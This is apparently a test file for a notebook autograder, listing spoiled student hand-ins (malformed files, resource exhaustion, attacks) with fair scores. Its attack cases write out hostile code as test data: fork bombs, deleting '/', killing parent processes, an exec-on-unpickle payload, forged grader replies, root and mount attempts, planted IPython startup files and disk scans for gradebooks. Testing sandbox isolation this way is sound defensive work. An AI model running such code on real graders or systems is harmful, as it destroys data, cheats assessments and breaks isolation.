"""Everything that happens to a class, each with the score that is fair and what the instructor should be told."""

from __future__ import annotations

import io
import json
import os
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from helpers.grading import Limits
from tests.archives import zipped
from tests.submissions.problem_set import ASSIGNMENT, FULL, ZEROS, Student

#: The score without softmax's four points.
REST = FULL - 4.0
NAME = f"{ASSIGNMENT}.ipynb"
#: A thirtieth of the default times, so that what holds here holds there.
LIMITS = Limits(
    cell_s=4, exercise_s=10, submission_s=30, grace_s=2, memory_bytes=2**30, scratch_bytes=2**25, processes=40
)


@dataclass(frozen=True)
class Case:
    """`score` is what is fair: a number, or the lowest and highest. `told` must appear in flags, notes or the
    reason."""

    name: str
    family: str
    what: str
    spoil: Callable[[Student], None]
    score: float | tuple[float, float]
    status: str = "graded"
    told: str = ""
    #: score, status and what is told where the grader runs as an ordinary user, who may not read everything
    unprivileged: tuple[float, str, str] | None = None


CASES: list[Case] = []


def _case(
    family: str, what: str, score: float | tuple[float, float], status: str = "graded", told: str = ""
) -> Callable:
    def register(spoil: Callable[[Student], None]) -> Callable[[Student], None]:
        name = spoil.__name__.strip("_").replace("_", "-")
        CASES.append(Case(name, family, what, spoil, score, status, told))
        return spoil

    return register


def accident(what: str, score: float | tuple[float, float] = FULL, status: str = "graded", told: str = "") -> Callable:
    return _case("accident", what, score, status, told)


def resource(what: str, score: float | tuple[float, float] = FULL, status: str = "graded", told: str = "") -> Callable:
    return _case("resource", what, score, status, told)


def attack(what: str, score: float | tuple[float, float] = REST, status: str = "graded", told: str = "") -> Callable:
    return _case("attack", what, score, status, told)


def files(what: str, score: float | tuple[float, float] = FULL, status: str = "graded", told: str = "") -> Callable:
    return _case("files", what, score, status, told)


def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


# --- accidents ---------------------------------------------------------------------------------------------------


@accident("everything right")
def _right(s: Student) -> None:
    pass


@accident("handed in as it was given out", 0.0)
def _untouched(s: Student) -> None:
    for name in ("softmax", "cross_entropy", "count_parameters"):
        s.set(name, f"def {name}(*arguments):\n    # YOUR CODE HERE\n    raise NotImplementedError")


@accident("an answer cell is there twice", told="2 times")
def _duplicated_answer(s: Student) -> None:
    s.cells.insert(s.position("softmax"), dict(s.cell("softmax")))


@accident("a wrong first attempt stands before the answer, with the same tag")
def _older_attempt(s: Student) -> None:
    s.cells.insert(s.position("softmax"), {**s.cell("softmax"), "source": ZEROS, "id": "older"})


@accident("an empty copy of the cell given out follows the answer")
def _stub_after_answer(s: Student) -> None:
    stub = {**s.cell("softmax"), "id": "copy", "source": ""}
    s.cells.insert(s.position("softmax") + 1, stub)


@accident("a test cell is there twice")
def _duplicated_test(s: Student) -> None:
    s.cells.insert(s.position("softmax-values"), dict(s.cell("softmax-values")))


@accident("an answer cell was deleted", REST, told="missing")
def _deleted_answer(s: Student) -> None:
    s.cells.remove(s.cell("softmax"))


@accident("all test cells were deleted", told="put back")
def _deleted_tests(s: Student) -> None:
    s.cells = [c for c in s.cells if not c["metadata"].get("nbgrader", {}).get("grade")]


@accident("only the answer cells are left")
def _only_answers(s: Student) -> None:
    s.cells = [c for c in s.cells if c["metadata"].get("nbgrader", {}).get("solution")]


@accident("the imports were deleted")
def _deleted_imports(s: Student) -> None:
    s.cells.remove(s.cell("imports"))


@accident("an answer is split over two cells, the tag on the first")
def _split(s: Student) -> None:
    body = s.solutions["softmax"].replace("def softmax", "def own_softmax")
    s.set("softmax", body)
    s.add("def softmax(logits):\n    return own_softmax(logits)", after="softmax")


@accident("an answer is split over two cells, the tag on both")
def _split_with_tags(s: Student) -> None:
    body = s.solutions["softmax"].replace("def softmax", "def own_softmax")
    first = {**s.cell("softmax"), "id": "first-half", "source": body}
    s.cells.insert(s.position("softmax"), first)
    s.set("softmax", "def softmax(logits):\n    return own_softmax(logits)")


@accident("two answers were merged into one cell", told="another cell")
def _merged(s: Student) -> None:
    s.set("softmax", s.solutions["softmax"] + "\n\n" + s.solutions["cross_entropy"])
    s.cells.remove(s.cell("cross_entropy"))


@accident("everything was merged into one cell, tests too")
def _merged_all(s: Student) -> None:
    parts = ["import torch", "from helpers import check", *(s.solutions[n] for n in s.solutions if n != "train_mnist")]
    parts += ["check.softmax(softmax)", "check.cross_entropy(cross_entropy)"]
    s.cells = [{**s.cell("softmax"), "source": "\n\n".join(parts)}]


@accident("the answers stand at the end, in reverse order")
def _moved(s: Student) -> None:
    answers = [s.cell(name) for name in ("count_parameters", "cross_entropy", "softmax")]
    s.cells = [c for c in s.cells if c not in answers] + answers


@accident("an answer became a markdown cell", told="markdown")
def _retyped_markdown(s: Student) -> None:
    cell = s.cell("softmax")
    cell["cell_type"] = "markdown"


@accident("an answer became a markdown cell with a fence", told="markdown")
def _retyped_fenced(s: Student) -> None:
    cell = s.cell("softmax")
    cell["cell_type"], cell["source"] = "markdown", f"```python\n{cell['source']}\n```"


@accident("an answer became a raw cell", told="raw")
def _retyped_raw(s: Student) -> None:
    s.cell("softmax")["cell_type"] = "raw"


@accident("a helper function in a cell of the student's own", told="student's own")
def _helper_cell(s: Student) -> None:
    s.add("def shifted(z):\n    return z - z.amax(-1, keepdim=True)")
    s.set("softmax", "def softmax(z):\n    e = shifted(z).exp()\n    return e / e.sum(-1, keepdim=True)")


@accident("a helper that is defined only at the end", REST)
def _helper_too_late(s: Student) -> None:
    s.set("softmax", "def softmax(z):\n    e = shifted(z).exp()\n    return e / e.sum(-1, keepdim=True)")
    s.add("def shifted(z):\n    return z - z.amax(-1, keepdim=True)", after=s.cells[-1]["id"])


@accident("all of nbgrader's metadata is gone")
def _no_metadata(s: Student) -> None:
    for cell in s.cells:
        cell["metadata"] = {}


@accident("metadata and cell ids are gone", told="found by what it defines")
def _no_metadata_no_ids(s: Student) -> None:
    for cell in s.cells:
        cell["metadata"] = {}
        del cell["id"]


@accident("the functions alone, typed into a new notebook")
def _fresh_notebook(s: Student) -> None:
    sources = [s.solutions[n] for n in ("softmax", "cross_entropy", "count_parameters")]
    s.notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}
    for number, source in enumerate(sources):
        s.cells.append({"cell_type": "code", "id": f"new{number}", "metadata": {}, "source": source, "outputs": []})


@accident("a schema version from the future")
def _schema_future(s: Student) -> None:
    for cell in s.cells:
        cell["metadata"].get("nbgrader", {})["schema_version"] = 99


@accident("a schema version that is a word, and points that are text")
def _schema_text(s: Student) -> None:
    for cell in s.cells:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"schema_version": "three", "points": "many"}


@accident("no schema version at all")
def _schema_missing(s: Student) -> None:
    for cell in s.cells:
        cell["metadata"].get("nbgrader", {}).pop("schema_version", None)


@accident("metadata of the wrong shape")
def _metadata_list(s: Student) -> None:
    for cell in s.cells:
        cell["metadata"] = ["nbgrader"]


@accident("saved by Colab: nbformat 4.0, no ids, extra keys")
def _colab(s: Student) -> None:
    s.notebook["nbformat_minor"] = 0
    s.notebook["metadata"] = {"colab": {"provenance": []}, "accelerator": "GPU"}
    for cell in s.cells:
        del cell["id"]
        cell["metadata"] = {**cell["metadata"], "id": "qWx3kYz", "outputId": "0f", "executionInfo": {"elapsed": 3}}


@accident("saved by VS Code: its own metadata, no kernelspec")
def _vscode(s: Student) -> None:
    s.notebook["metadata"] = {"language_info": {"name": "python"}, "vscode": {"interpreter": {"hash": "1"}}}
    for cell in s.cells:
        cell["metadata"]["vscode"] = {"languageId": "python"}
        cell["source"] = cell["source"].splitlines(keepends=True)


@accident("nbformat 3")
def _nbformat_three(s: Student) -> None:
    cells = [{**c, "input": c["source"], "language": "python"} if c["cell_type"] == "code" else c for c in s.cells]
    for cell in cells:
        if cell["cell_type"] == "code":
            cell.pop("source")
    s.notebook = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}


@accident("a format of the future with unknown keys")
def _nbformat_future(s: Student) -> None:
    s.notebook |= {"nbformat": 4, "nbformat_minor": 99, "signature": "x"}
    s.cells.append({"cell_type": "hologram", "source": "?", "metadata": {}})


@accident("cut off after the second answer", 9.0, told="cut off")
def _truncated(s: Student) -> None:
    whole = json.dumps(s.notebook)
    s.files[NAME] = whole[: whole.index('"count_parameters-text"') - 30].encode()


@accident("an empty file", 0.0, "unreadable")
def _empty(s: Student) -> None:
    s.files[NAME] = b""


@accident("a file of zero bytes' worth of zeros", 0.0, "unreadable")
def _zeros(s: Student) -> None:
    s.files[NAME] = bytes(5000)


@accident("plain text", 0.0, "unreadable")
def _not_json(s: Student) -> None:
    s.files[NAME] = b"I did it, see my other hand-in."


@accident("JSON that is no notebook", 0.0, "unreadable")
def _other_json(s: Student) -> None:
    s.files[NAME] = b'{"answer": 42}'


@accident("JSON nested a hundred thousand deep", 0.0, "unreadable")
def _deep_json(s: Student) -> None:
    s.files[NAME] = b"[" * 100_000


@accident("a web page instead of a notebook", 0.0, "unreadable", told="web page")
def _html(s: Student) -> None:
    s.files[NAME] = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


@accident("Latin-1 instead of UTF-8", told="not UTF-8")
def _latin1(s: Student) -> None:
    s.cell("softmax")["source"] += "\n# déjà vu"
    s.files[NAME] = json.dumps(s.notebook, ensure_ascii=False).encode("latin-1", "replace")


@accident("UTF-16", told="UTF-16")
def _utf16(s: Student) -> None:
    s.files[NAME] = json.dumps(s.notebook).encode("utf-16")


@accident("UTF-8 with a byte order mark")
def _utf8_mark(s: Student) -> None:
    s.files[NAME] = b"\xef\xbb\xbf" + s.bytes()


@accident("half a surrogate pair in a comment")
def _surrogate(s: Student) -> None:
    s.cell("softmax")["source"] += "\n# \ud83d"


@accident("another file name", told="was taken for it")
def _wrong_name(s: Student) -> None:
    s.files["homework final (2).ipynb"], s.name = s.bytes(), ""


@accident("in a sub-folder", told="was taken for it")
def _sub_folder(s: Student) -> None:
    s.files[f"my work/{NAME}"], s.name = s.bytes(), ""


@accident("a zip instead of a notebook", told="zip")
def _zip(s: Student) -> None:
    s.files["work.zip"], s.name = zipped({f"work/{NAME}": s.bytes()}), ""


@accident("a zip that calls itself a notebook", told="zip")
def _zip_as_notebook(s: Student) -> None:
    s.files[NAME] = zipped({NAME: s.bytes()})


@accident("a damaged zip", 0.0, "unreadable")
def _broken_zip(s: Student) -> None:
    s.files["work.zip"], s.name = zipped({NAME: s.bytes()})[:200], ""


@accident("nothing in the folder", 0.0, "missing")
def _nothing(s: Student) -> None:
    s.name = ""


@accident("a photograph only", 0.0, "unreadable")
def _photograph(s: Student) -> None:
    s.name, s.files = "", {"IMG_1234.jpg": b"\xff\xd8\xff\xe0"}


@accident("a zip whose contents are damaged", 0.0, "unreadable", told="damaged")
def _damaged_in_zip(s: Student) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(NAME, s.bytes())
    data = bytearray(buffer.getvalue())
    data[200:260] = bytes(60)
    s.files["work.zip"], s.name = bytes(data), ""


@accident("a file beside the notebook whose name is no UTF-8", told="beside the notebook")
def _odd_file_name(s: Student) -> None:
    s.files["caf\udce9.txt"] = b""


@accident("half a surrogate pair printed and raised by a cell")
def _surrogate_printed(s: Student) -> None:
    s.add("print('\\ud83d')\nraise ValueError('\\ud83d')")


@accident("an old copy in .ipynb_checkpoints")
def _checkpoints(s: Student) -> None:
    s.files[".ipynb_checkpoints/old.ipynb"] = b"{}"


@accident("Windows line ends")
def _crlf(s: Student) -> None:
    for cell in s.cells:
        cell["source"] = cell["source"].replace("\n", "\r\n")


@accident("cells without a source, cells that are no cells")
def _odd_cells(s: Student) -> None:
    s.cells += [None, 3, {"cell_type": "code"}, {"cell_type": "code", "source": {"a": 1}, "metadata": None}]


@accident("a syntax error in one answer", REST)
def _syntax_error(s: Student) -> None:
    s.set("softmax", "def softmax(logits)\n    return logits")


@accident("a syntax error in a cell of the student's own")
def _own_syntax_error(s: Student) -> None:
    s.add("this is not python")


@accident("marks of a version conflict in an answer", REST)
def _conflict(s: Student) -> None:
    s.set("softmax", "<<<<<<< HEAD\n" + s.solutions["softmax"] + "\n=======\n>>>>>>> other")


@accident("another function name", REST)
def _misnamed(s: Student) -> None:
    s.set("softmax", s.solutions["softmax"].replace("def softmax", "def soft_max"))


@accident("input() left over in a cell")
def _input(s: Student) -> None:
    s.add("name = input('Your name? ')")


@accident("a cell that raises")
def _raises(s: Student) -> None:
    s.add("1 / 0")


@accident("sys.exit() in a cell")
def _exit(s: Student) -> None:
    s.add("import sys\nsys.exit(1)")


@accident("magics and shell lines")
def _magics(s: Student) -> None:
    s.add("%matplotlib inline\n!ls\n%timeit -n1 -r1 1+1")


@accident("warnings on stderr while answering")
def _warnings(s: Student) -> None:
    body = s.solutions["softmax"].replace(
        ":\n", ":\n    import sys, warnings; warnings.warn('!'); print('!', file=sys.stderr)\n", 1
    )
    s.set("softmax", body)


@accident("names of the course overwritten in a cell")
def _overwritten(s: Student) -> None:
    s.add("check = None\nlogits = 3", after="softmax-stable")


@accident("a diverged loss: nan", REST)
def _nan(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    return logits * float('nan')")


@accident("stored outputs of many megabytes")
def _big_outputs(s: Student) -> None:
    s.cell("softmax")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}]


@accident("a right answer that calls a wrong earlier one", (3.0, 4.0))
def _calls_a_wrong_one(s: Student) -> None:
    s.set("softmax", ZEROS)
    s.set(
        "cross_entropy",
        _code("""
        def cross_entropy(logits, labels):
            if len(labels) == 0 or labels.min() < 0 or labels.max() >= logits.shape[1]:
                raise ValueError("labels")
            return -softmax(logits)[torch.arange(len(labels)), labels].log().mean()
        """),
    )


# --- resources ---------------------------------------------------------------------------------------------------


@resource("an endless loop in an answer", REST)
def _endless_answer(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    while True:\n        pass")


@resource("an endless loop that swallows interrupts, in an answer", REST, told="did not finish in time")
def _stubborn_answer(s: Student) -> None:
    s.set(
        "softmax",
        _code("""
        def softmax(logits):
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """),
    )


@resource("an endless loop in a cell", told="stopped after")
def _endless_cell(s: Student) -> None:
    s.add("while True:\n    pass")


@resource("an endless loop that swallows interrupts, in a cell", told="did not finish in time")
def _stubborn_cell(s: Student) -> None:
    s.add("import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))\nwhile True:\n    pass")


@resource("gigabytes in an answer", REST)
def _memory_answer(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    return [torch.ones(2**28) for _ in range(64)]")


@resource("gigabytes in a cell")
def _memory_cell(s: Student) -> None:
    s.add("hoard = [bytearray(2**28) for _ in range(100)]")


@resource("a fork bomb")
def _fork_bomb(s: Student) -> None:
    s.add("import os\nfor _ in range(20):\n    os.fork()")


@resource("threads left behind")
def _threads(s: Student) -> None:
    s.add("import threading, time\nfor _ in range(5):\n    threading.Thread(target=time.sleep, args=(1000,)).start()")


@resource("processes left behind", told="starts programs")
def _processes(s: Student) -> None:
    s.add("import subprocess\nfor _ in range(3):\n    subprocess.Popen(['sleep', '1000'], start_new_session=True)")


@resource("fifty megabytes on one line")
def _long_line(s: Student) -> None:
    s.add("print('x' * 50_000_000)")


@resource("a million lines")
def _many_lines(s: Student) -> None:
    s.add("for i in range(1_000_000):\n    print(i)")


@resource("a disk filled up")
def _full_disk(s: Student) -> None:
    s.add("for i in range(1000):\n    open(f'/tmp/junk{i}', 'wb').write(bytes(2**22))")


@resource("many slow cells", told="left out")
def _slow_cells(s: Student) -> None:
    for _ in range(12):
        s.add("import time\ntime.sleep(3)")


@resource("a thousand figures")
def _figures(s: Student) -> None:
    s.add("import matplotlib.pyplot as plt\nfor i in range(1000):\n    plt.figure()\n    plt.show()")


@resource("endless recursion", REST)
def _recursion(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    return softmax(logits)")


@resource("a crash below Python in an answer", REST, told="process")
def _segfault_answer(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    import ctypes\n    ctypes.string_at(0)")


@resource("a crash below Python in a cell", told="process")
def _segfault_cell(s: Student) -> None:
    s.add("import ctypes\nctypes.string_at(0)")


@resource("the process ended in a cell", told="process")
def _exit_cell(s: Student) -> None:
    s.add("import os\nos._exit(0)")


@resource("a result of billions of numbers", REST)
def _huge_result(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    return torch.zeros(1).expand(2**40)")


@resource("a result that never ends", REST)
def _endless_result(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    import itertools\n    return itertools.count()")


@resource("a result nested ten thousand deep", REST)
def _deep_result(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    r = []\n    for _ in range(10_000):\n        r = [r]\n    return r")


@resource("a result that holds itself", REST)
def _cyclic_result(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    r = []\n    r.append(r)\n    return r")


@resource("ten thousand open files")
def _open_files(s: Student) -> None:
    s.add("files = []\nfor i in range(10_000):\n    files.append(open('/dev/null'))")


@resource("memory that is shared, which no limit of a process counts", told="of memory")
def _shared_memory(s: Student) -> None:
    s.add(
        "import mmap\nm = mmap.mmap(-1, 3 * 2**30)\nfor i in range(0, len(m), 2**26):\n    m[i : i + 2**26] = bytes(2**26)"
    )


@resource("memory in many processes, each within its limit", told="of memory")
def _memory_of_copies(s: Student) -> None:
    code = """
        import os, time
        for _ in range(4):
            if os.fork() == 0:
                hoard = bytearray(b"x") * (7 * 2**27)
                time.sleep(9)
                os._exit(0)
        time.sleep(9)
        """
    s.add(_code(code))


@resource("memory in files without a name, which is nobody's own")
def _memory_in_files(s: Student) -> None:
    code = """
        import os, time
        block, kept = b"x" * 2**23, []
        for _ in range(100):
            kept.append(os.memfd_create("hoard"))
            for _ in range(3): os.write(kept[-1], block)
        time.sleep(9)
        """
    s.add(_code(code))


@resource("sixty million numbers, of a shape that fits to any other, where thirty are right", REST)
def _wide_result(s: Student) -> None:
    naive = "logits.exp() / logits.exp().sum(-1, keepdim=True)"
    wide = "torch.zeros(60 * 2**20, 1, 1, 1, dtype=torch.bool)"
    s.set("softmax", f"def softmax(logits):\n    return {wide} if logits.ndim == 3 else {naive}")


@resource("thousands of functions that call one another")
def _many_functions(s: Student) -> None:
    s.add("\n".join(f"def f{i}(): f{i + 1}()" for i in range(5_000)))


@resource("an attribute of an attribute, hundreds of times", told="nested too deeply")
def _long_chain(s: Student) -> None:
    s.add("a" + ".b" * 400 + " = 1")


@resource("markdown that is nearly all blanks")
def _blank_markdown(s: Student) -> None:
    for _ in range(100):
        s.add("data" + " " * 19_000 + "x", kind="markdown")


@resource("a damaged notebook that could be read over and over", 0.0, "unreadable")
def _read_over(s: Student) -> None:
    s.files[NAME] = b'{"cells": [' + (b'{"a": [' + b"0," * 5_000) * 800


@resource("hundreds of large pictures")
def _large_pictures(s: Student) -> None:
    for _ in range(25):
        s.add(
            "import matplotlib.pyplot as plt\nfor _ in range(4):\n"
            "    plt.figure(figsize=(5, 5))\n    plt.imshow(torch.rand(300, 300, 3))"
        )


# --- attacks: softmax is wrong, and something is tried to get its points all the same ----------------------------


def _zeros_and(code: str) -> Callable[[Student], None]:
    def spoil(s: Student) -> None:
        s.set("softmax", ZEROS)
        s.add(_code(code))

    return spoil


def _trick(name: str, what: str, code: str, score: float | tuple[float, float] = REST, told: str = "") -> None:
    spoil = _zeros_and(code)
    spoil.__name__ = name
    attack(what, score, told=told)(spoil)


def _spy(name: str, what: str, code: str) -> None:
    """The answer turns right if the spying found anything: whoever learns something, shows it by a better score."""

    def spoil(s: Student) -> None:
        right = s.solutions["softmax"].replace("def softmax", "def right_softmax")
        s.add(right)
        s.add("leaked = False\n" + _code(code), after="softmax-text")
        s.set("softmax", f"def softmax(logits):\n    {'return right_softmax(logits) if leaked else logits * 0'}")

    spoil.__name__ = name
    attack(what)(spoil)


_trick("patch_allclose", "torch.allclose, equal and testing replaced", """
    torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    """, told="replaces torch.allclose")  # fmt: skip
_trick("patch_assert", "AssertionError and assert replaced", """
    import builtins
    class Quiet(Exception):
        def __new__(cls, *a): return Exception.__new__(cls)
    builtins.AssertionError = Quiet
    """, told="builtins.AssertionError")  # fmt: skip
_trick("patch_type", "type and isinstance replaced", """
    import builtins
    builtins.isinstance = lambda *a: True
    """, (0.0, REST), told="builtins.isinstance")  # fmt: skip
_trick("patch_torch", "torch's own softmax, exp and comparison replaced", """
    torch.softmax = torch.exp = lambda x, *a, **k: x * 0
    torch.Tensor.__eq__ = lambda a, b: True
    torch.nn.functional.softmax = lambda x, *a, **k: x * 0
    """, (0.0, REST), told="replaces torch")  # fmt: skip
_trick("patch_check", "the checks replaced", """
    import sys, helpers
    class Fine:
        def __getattr__(self, name): return lambda *a, **k: None
    helpers.check = sys.modules['helpers.check'] = check = Fine()
    """, told="replaces")  # fmt: skip
_trick("patch_numpy", "numpy's comparisons replaced", """
    import numpy as np
    np.allclose = np.array_equal = lambda *a, **k: True
    """, told="replaces np")  # fmt: skip
_trick("equal_to_everything", "an object that equals everything", """
    class Same:
        shape = dtype = None
        def __eq__(self, other): return True
        def __bool__(self): return True
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
    def zeros_like(x): return Same()
    torch.zeros_like = zeros_like
    """, (0.0, REST), told="__eq__")  # fmt: skip
_trick("tensor_subclass", "a tensor subclass that lies about itself", """
    class Liar(torch.Tensor):
        @classmethod
        def __torch_function__(cls, f, t, a=(), k=None): return torch.tensor(True)
    plain = torch.zeros_like
    torch.zeros_like = lambda x: plain(x).as_subclass(Liar)
    """, (0.0, REST), told="__torch_function__")  # fmt: skip
_trick("ast_transformer", "a transformer that removes checks from later cells", """
    import ast
    class Drop(ast.NodeTransformer):
        def visit_Assert(self, node): return None
        def visit_Expr(self, node): return None
    get_ipython().ast_transformers.append(Drop())
    """, told="rewrites the code")  # fmt: skip
_trick("input_transformer", "an input transformer that empties later cells", """
    get_ipython().input_transformers_post.append(lambda lines: ['pass'])
    """, (0.0, REST), told="rewrites the code")  # fmt: skip
_trick("run_cell_patched", "the shell's run_cell replaced", """
    shell = get_ipython()
    type(shell).run_cell = lambda self, *a, **k: None
    """, (0.0, REST))  # fmt: skip
_trick("atexit_forger", "code that runs when the process ends", """
    import atexit
    atexit.register(lambda: print('all right'))
    """, told="atexit")  # fmt: skip
_trick("signal_handlers", "all signals ignored", """
    import signal
    for number in range(1, 60):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    """, told="signal")  # fmt: skip
_trick("kill_parent", "the parent and everyone killed", """
    import os, signal
    for target in (os.getppid(), -1):
        try: os.kill(target, signal.SIGKILL)
        except OSError: pass
    """, told="ends processes")  # fmt: skip
_trick("delete_everything", "every file that can be deleted is deleted", """
    import shutil, os
    for path in ('/tmp', '/home', os.getcwd(), '/usr', '/'):
        shutil.rmtree(path, ignore_errors=True)
    """)  # fmt: skip
_trick("pickle_bomb", "a result that runs code when unpickled", """
    class Bomb:
        def __reduce__(self): return (exec, ("import os; os._exit(1)",))
    torch.zeros_like = lambda x: Bomb()
    """, (0.0, REST))  # fmt: skip
_trick("forked_twin", "a second process that answers too", """
    import os
    os.fork()
    """, REST)  # fmt: skip
_trick("forged_reply", "a forged reply written to the judge", """
    import os
    for fd in range(3, 60):
        try: os.write(fd, (20).to_bytes(8, 'little') + b'A+' + bytes(18))
        except OSError: pass
    """, (0.0, REST))  # fmt: skip
_trick("forged_forever", "a forged reply before every question", """
    import os, threading, time
    def shout():
        while True:
            for fd in range(3, 20):
                try: os.write(fd, (30).to_bytes(8, 'little') + b'A+' + bytes(28))
                except OSError: pass
            time.sleep(0.01)
    threading.Thread(target=shout, daemon=True).start()
    """, (0.0, REST))  # fmt: skip
_trick("oversized_reply", "a reply of 2 to the 60 bytes announced", """
    import os
    for fd in range(3, 60):
        try: os.write(fd, (2**60).to_bytes(8, 'little') + b'A+')
        except OSError: pass
    """, (0.0, REST))  # fmt: skip
_trick("closed_channel", "every open file closed", """
    import os
    os.closerange(3, 100)
    """, (0.0, FULL - 4))  # fmt: skip
_trick("host_patched", "the code that answers the judge replaced", """
    import gc
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Host':
            type(thing).serve = lambda self, request: b'{}'
    """, (0.0, REST), told="memory of the process")  # fmt: skip
_trick("weights_brought_along", "numbers that were trained before, written into a cell", f"""
    weights = "{'AAECAwQF' * 1000}"
""", told="trained before")  # fmt: skip
_trick("seeds_pinned", "every random generator pinned", """
    torch.manual_seed = torch.randn = torch.rand = lambda *a, **k: torch.zeros(1)
    """, (0.0, REST), told="replaces torch")  # fmt: skip
_trick("finished_softmax", "the library's softmax under another name", """
    from torch.nn.functional import softmax as borrowed
    def zeros_like(x): return borrowed(x, -1)
    torch.zeros_like = zeros_like
    """, (0.0, REST), told="replaces torch")  # fmt: skip

_spy("own_namespace", "makes namespaces of its own, in which it may mount", """
    import ctypes
    leaked = ctypes.CDLL(None).unshare(0x10000000 | 0x20000) == 0
    """)  # fmt: skip
_spy("read_notebooks", "looks for notebooks, hidden tests and gradebooks on the disk", """
    import os
    for folder, _, files in os.walk('/'):
        if folder.startswith(('/proc', '/sys')): continue
        leaked |= any(f.endswith(('.ipynb', 'gradebook.db')) and 'site-packages' not in folder and 'share' not in folder for f in files)
    """)  # fmt: skip
_spy("read_course", "looks for the course's folders", """
    import os
    leaked = any(os.path.exists(p) for p in ('source', 'gradebook.db', 'submitted', '../source', 'grading', 'release'))
    """)  # fmt: skip
_spy("read_checks", "imports the checks or finds their file", """
    import sys
    for name in ('helpers.check.mnist_dnn', 'helpers.check.exercise', 'helpers.grading', 'helpers.models'):
        try:
            __import__(name); leaked = True
        except ImportError:
            pass
    leaked |= any('helpers.check.' in name or 'helpers.grading' in name for name in sys.modules)
    """)  # fmt: skip
_spy("read_memory", "looks through memory for expected values", """
    import gc
    words = ('ValueExercise', 'Mistaken', 'Verdict', 'Judgement', 'CheckCall', 'Exam')
    leaked = any(type(thing).__name__ in words for thing in gc.get_objects())
    """)  # fmt: skip
_spy(
    "other_cores",
    "takes more than the one core that it was given",
    """
    import os
    try:
        os.sched_setaffinity(0, range(os.cpu_count()))
    except OSError:
        pass
    leaked = len(os.sched_getaffinity(0)) > 1
""",
)
_spy("read_environment", "looks for the seed in the environment", """
    import os
    leaked = any('SEED' in name and name != 'PYTHONHASHSEED' for name in os.environ)
    leaked |= b'COURSE_SEED' in open('/proc/self/environ', 'rb').read()
    """)  # fmt: skip
_spy("read_arguments", "looks at the command line", """
    leaked = b'submitted' in open('/proc/self/cmdline', 'rb').read()
    """)  # fmt: skip
_spy("read_frames", "looks at the callers' variables for expected values", """
    import sys
    frame = sys._getframe()
    while frame is not None:
        leaked |= any(name in ('expected', 'verdict', 'seed', 'trial') for name in frame.f_locals)
        frame = frame.f_back
    """)  # fmt: skip
_spy("read_history", "looks at the history of other students", """
    try:
        leaked = len(list(get_ipython().history_manager.search('*'))) > 0
    except Exception:
        pass
    """)  # fmt: skip
_spy("see_processes", "looks for other processes", """
    import os
    pids = [int(name) for name in os.listdir('/proc') if name.isdigit()] if os.path.isdir('/proc') else []
    leaked = any(pid != os.getpid() for pid in pids)
    """)  # fmt: skip
_spy("network", "opens a connection", """
    import socket
    for address in (('1.1.1.1', 53), ('127.0.0.1', 22), ('127.0.0.1', 8888)):
        try:
            socket.create_connection(address, 1); leaked = True
        except OSError:
            pass
    """)  # fmt: skip
_spy("abstract_sockets", "looks for sockets of other programs", """
    import os
    path = '/proc/net/unix'
    leaked = os.path.exists(path) and '@' in open(path).read()
    """)  # fmt: skip
_spy("write_system", "writes into Python's folders or the system's", """
    import sys, os
    for folder in [*filter(None, sys.path), '/usr/bin', '/etc', '/', sys.prefix]:
        try:
            open(os.path.join(folder, 'sitecustomize.py'), 'w').close(); leaked = True
        except OSError:
            pass
    """)  # fmt: skip
_spy("become_root", "tries to become root, to mount, to leave the room", """
    import ctypes, os
    libc = ctypes.CDLL(None)
    leaked = os.getuid() == 0 or libc.setuid(0) == 0 or libc.mount(b'tmpfs', b'/usr', b'tmpfs', 0, None) == 0
    leaked |= libc.chroot(b'/tmp') == 0
    """)  # fmt: skip
_spy("open_descriptors", "reads files that the grader may have left open", """
    import os, stat
    for fd in range(3, 256):
        try:
            leaked |= stat.S_ISREG(os.fstat(fd).st_mode) and os.readlink(f'/proc/self/fd/{fd}').endswith(('.ipynb', '.db', '.json'))
        except OSError:
            pass
    """)  # fmt: skip
_spy("mark_left", "leaves marks for the next student", """
    import os
    home = os.path.expanduser('~')
    os.makedirs(f'{home}/.ipython/profile_default/startup', exist_ok=True)
    for path in ('/tmp/mark', '/dev/shm/mark', f'{home}/.ipython/profile_default/startup/00.py', f'{home}/mark'):
        try: open(path, 'w').write('leaked = True')
        except OSError: pass
    """)  # fmt: skip
_spy("mark_looked_for", "looks for marks that another student left", """
    import os
    home = os.path.expanduser('~')
    leaked = any(os.path.exists(p) for p in ('/tmp/mark', '/dev/shm/mark', f'{home}/mark', f'{home}/.ipython/profile_default/startup'))
    """)  # fmt: skip


@attack("modules of its own that shadow numpy and torch", told="was not used")
def _shadow_modules(s: Student) -> None:
    s.files["numpy.py"] = s.files["torch.py"] = b"evil = True"
    s.set("softmax", s.solutions["softmax"].replace("def softmax", "def right_softmax"))
    s.add(
        "import numpy\ndef softmax(z):\n    return right_softmax(z) if hasattr(numpy, 'evil') or hasattr(torch, 'evil') else z * 0",
        after="softmax",
    )


@attack("a symbolic link to the instructor's notebook", 0.0, "unreadable", told="symbolic link")
def _symbolic_link(s: Student) -> None:
